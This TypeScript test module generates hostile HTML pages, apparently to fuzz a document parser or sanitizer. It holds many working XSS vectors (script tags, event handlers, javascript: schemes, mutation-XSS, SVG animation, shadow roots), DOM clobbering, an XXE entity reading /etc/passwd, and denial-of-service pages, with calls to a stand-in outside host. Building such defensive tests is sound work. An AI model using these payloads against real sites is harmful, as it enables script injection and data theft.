import { type HostileFile, OUTSIDE, type Random } from './hostile-pdfs.ts'

const CALL = `fetch('${OUTSIDE}');parent.document.title='harmed'`
const frame = (body: string, head = '') =>
  `<!doctype html><html lang="en"><head><title>x</title>${head}</head><body>${body}</body></html>`
const repeated = (times: number, text: string) => text.repeat(times)

/** Harm that a page of HTML can do to its readers. */
const KINDS: Readonly<Record<string, (random: Random) => string>> = {
  scripts: (random) =>
    frame(
      `<script>${CALL}</script><ScRiPt src="${OUTSIDE}"></ScRiPt${random() < 0.5 ? ' ' : '/'}><svg><script>${CALL}</script></svg><math><script>${CALL}</script></math><p>1 Scope`,
    ),
  handlers: () =>
    frame(
      [
        'img src=x onerror',
        'body onload',
        'svg onload',
        'details open ontoggle',
        'a href=# onclick',
        'marquee onstart',
        'input autofocus onfocus',
        'p style=animation-name:x onanimationstart',
      ]
        .map((tag) => `<${tag}="${CALL}">x</a>`)
        .join(''),
    ),
  addresses: () =>
    frame(
      [
        'javascript:',
        'JaVaScRiPt:',
        'java\tscript:',
        '&#106;avascript:',
        'vbscript:',
        'data:text/html,<script>',
        '\u0001javascript:',
        'javascript&colon;',
      ]
        .map(
          (scheme) =>
            `<a href="${scheme}${CALL}">x</a><form action="${scheme}${CALL}"><button>x</button></form><iframe src="${scheme}${CALL}"></iframe>`,
        )
        .join(''),
    ),
  'things from elsewhere': () =>
    frame(
      `<img src="${OUTSIDE}"><img srcset="${OUTSIDE} 2x"><picture><source srcset="${OUTSIDE}"></picture><video src="${OUTSIDE}" poster="${OUTSIDE}"></video><audio src="${OUTSIDE}"></audio><object data="${OUTSIDE}"></object><embed src="${OUTSIDE}"><link rel=stylesheet href="${OUTSIDE}"><style>@import "${OUTSIDE}";p{background:url(${OUTSIDE})}</style><p style="background:url(${OUTSIDE})">x<table background="${OUTSIDE}"><tr><td>x</table><svg><image href="${OUTSIDE}"/><use href="${OUTSIDE}#a"/><feImage href="${OUTSIDE}"/></svg><iframe src="${OUTSIDE}"></iframe><a ping="${OUTSIDE}" href="#a">x</a>`,
      `<base href="${OUTSIDE}"><meta http-equiv=refresh content="0;url=${OUTSIDE}"><link rel=preload as=image href="${OUTSIDE}"><link rel=dns-prefetch href="//outside.example.net">`,
    ),
  'deep elements': (random) =>
    frame(
      `${repeated(
        2000 + Math.floor(random() * 20_000),
        ['<div>', '<b>', '<ul><li>', '<table><tr><td>', '<blockquote>'][Math.floor(random() * 5)] as string,
      )}1 Scope`,
    ),
  'a huge table': (random) =>
    frame(
      `<table>${repeated(200 + Math.floor(random() * 1000), `<tr>${repeated(40, '<td rowspan=9999 colspan=9999>7')}`)}</table>`,
    ),
  'markup that is not closed': () => frame('<h1 <p title="<script>x"><a href="x<!-- <![CDATA[ <p>text</p> ]]> -->'),
  'text that becomes markup': () =>
    frame(
      `<noscript><p title="</noscript><img src=x onerror=${CALL}>"></noscript><textarea></textarea><p>&lt;script&gt;${CALL}&lt;/script&gt;<xmp><script>${CALL}</script></xmp><plaintext><script>${CALL}</script>`,
    ),
  'markup in other languages': () =>
    frame(
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${CALL}&gt;">x</table></mtext></math><svg></p><style><a id="</style><img src=1 onerror=${CALL}>">`,
    ),
  'marks of direction': (random) =>
    frame(`<h2>1 ${repeated(100 + Math.floor(random() * 900), '\u202e\u2066\u200f')}Scope</h2><p dir=rtl>\u202etxet\u202c</p>`),
  'empty characters': () => `\0<\0scr\0ipt>${CALL}</scr\0ipt><p>a\0b${repeated(5000, '\0')}`,
  'half characters': () => frame(`<h2>1 \ud800 Scope \udfff</h2><p>\ud83d</p>`),
  'a million short elements': (random) => frame(repeated(20_000 + Math.floor(random() * 60_000), '<i>x')),
  'entities without end': () => frame(`<p>${repeated(50_000, '&amp;&lt;&#0;&#x110000;&nosuch;')}`),
  'names that are taken': () =>
    frame(
      `<form id=body name=body><input name=attributes><input name=parentNode><input id=firstChild></form><a id=defaultView href=#>x</a><img name=getElementById><h2 id=__proto__>1 Scope</h2><h2 id=constructor>2 Terms</h2>`,
    ),
  'ids twice': () => frame(repeated(3000, '<h2 id=a>1 Scope</h2><p>see Clause 1, 7.4.2 and ISO 9001')),
  'frames and forms': () =>
    frame(
      `<iframe srcdoc="<script>${CALL}</script>"></iframe><form action="${OUTSIDE}"><input name=q value=x><button autofocus>x</button></form><portal src="${OUTSIDE}"></portal><template><script>${CALL}</script></template>`,
    ),
  'drawings that run': () =>
    frame(
      `<svg><animate attributeName=href values="javascript:${CALL}"/><a><text>x</text><set attributeName=href to="javascript:${CALL}"/></a><foreignObject><body onload="${CALL}"></foreignObject><style>*{background:url(${OUTSIDE})}</style></svg>`,
    ),
  'shadow roots': () =>
    frame(
      `<div><template shadowrootmode=open><script>${CALL}</script><img src="${OUTSIDE}"></template></div><object type=text/html data="data:text/html,<script>${CALL}</script>"></object>`,
    ),
  'numbers that lead nowhere': (random) =>
    frame(
      repeated(
        500 + Math.floor(random() * 2000),
        '<p>see 1.1.1.1.1.1.1.1.1.1, Clause 999.999.999, Table 1-2-3-4-5, ISO/IEC/IEEE 1234567890123-1-2-3:2015+A1+A2',
      ),
    ),
  'a style that ends its element': () =>
    frame(`<style></style><script>${CALL}</script></style><p style="</style><script>${CALL}</script>">x</p>`),
  'a name of its own': () =>
    `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "${repeated(100, 'x')}"><!ENTITY b SYSTEM "file:///etc/passwd">]><html xmlns="http://www.w3.org/1999/xhtml"><body><p>&a;&b;</p><script>${CALL}</script></body></html>`,
}

export const PAGE_KINDS = Object.keys(KINDS)

/** Makes the hostile page of a number: each kind in turn, different each time. */
export function hostilePage(number: number, random: Random): HostileFile {
  const name = PAGE_KINDS[number % PAGE_KINDS.length] as string
  return { name: `${number} ${name}`, bytes: Buffer.from((KINDS[name] as (random: Random) => string)(random)) }
}
